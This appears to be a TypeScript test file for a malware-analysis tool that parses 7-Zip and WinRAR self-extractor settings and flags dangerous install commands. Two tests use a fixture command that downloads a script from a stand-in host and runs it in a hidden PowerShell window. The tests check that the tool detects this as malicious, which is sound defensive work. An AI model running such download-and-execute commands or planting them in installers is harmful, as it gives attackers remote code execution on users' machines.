// What self-extractors run: settings of 7-Zip, comments of WinRAR.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { sevenZipSettings, winRarSettings } from '../../../src/file/formats/installer/self-extractor.ts'
import { analyzeFile } from '../../../src/index.ts'
import { EICAR } from '../archives/member.ts'
import { writeRar5 } from '../archives/write-archive.ts'
import { packed } from '../containers.ts'
import { buildPe } from '../pe/build-pe.ts'

const now = new Date('2026-01-01T00:00:00Z')
const settings = (lines: string): Buffer => Buffer.from(`;!@Install@!UTF-8!\r\n${lines}\r\n;!@InstallEnd@!`)

test('7-Zip: programs, their arguments, escapes', () => {
  const found = sevenZipSettings(
    'Title="A \\"demo\\""\nProgress="no"\nRunProgram="hidcon:a.bat"\nExecuteFile="setup.exe"\nExecuteParameters="/s C:\\\\x"',
  )
  assert.equal(found?.name, 'A "demo"')
  assert.deepEqual(
    found?.actions.map(({ text }) => text),
    ['hidcon:a.bat', 'setup.exe /s C:\\x'],
  )
  assert.equal(sevenZipSettings('nothing of the kind'), null)
})

test('WinRAR: a comment of commands, and one that is none', () => {
  assert.deepEqual(winRarSettings('Path=%temp%\r\nSilent=1\r\nSetup=cmd /c a.bat\r\nPresetup=b.exe')?.actions, [
    { kind: 'run', text: 'cmd /c a.bat' },
    { kind: 'run', text: 'b.exe' },
  ])
  assert.equal(winRarSettings('Setup my holiday pictures'), null)
})

test('a self-extractor of 7-Zip: its commands are judged, its members come out', async () => {
  const command = settings('RunProgram="powershell -w hidden iex (iwr http://a.example/x.ps1)"')
  for (const mark of [Buffer.alloc(0), Buffer.from('\ufeff')]) {
    const overlay = Buffer.concat([mark, command, await packed('a.7z', '-t7z')])
    const { root, verdict } = await analyzeFile(buildPe({ overlay }), { fileName: 'setup.exe', now })
    const [holder] = root.children
    assert.equal(holder?.facts.installer?.tool, '7-Zip self-extractor')
    assert.ok(holder?.findings.some(({ id }) => id === 'script_runs_downloaded_text'))
    assert.equal(verdict.label, 'malicious')
    assert.equal(holder?.children[0]?.children[0]?.findings[0]?.id, 'eicar_test_file')
  }
})

test('a self-extractor of WinRAR: its comment is read whole and does not pass for the list', async () => {
  const comment = `Silent=1\r\n}\r\n\r\n----------\r\nPath = nothing.txt\r\nSetup=powershell -w hidden iex (iwr http://a.example/x.ps1)`
  const overlay = writeRar5({ name: 'eicar.com', bytes: EICAR }, comment)
  const { root } = await analyzeFile(buildPe({ overlay }), { fileName: 'setup.exe', now })
  const [archive] = root.children
  assert.deepEqual(
    archive?.facts.installer?.actions.map(({ text }) => text),
    ['powershell -w hidden iex (iwr http://a.example/x.ps1)'],
  )
  assert.deepEqual(
    archive?.facts.archive?.entries.map(({ name }) => name),
    ['eicar.com'],
  )
  assert.ok(archive?.findings.some(({ id }) => id === 'script_runs_downloaded_text'))
})
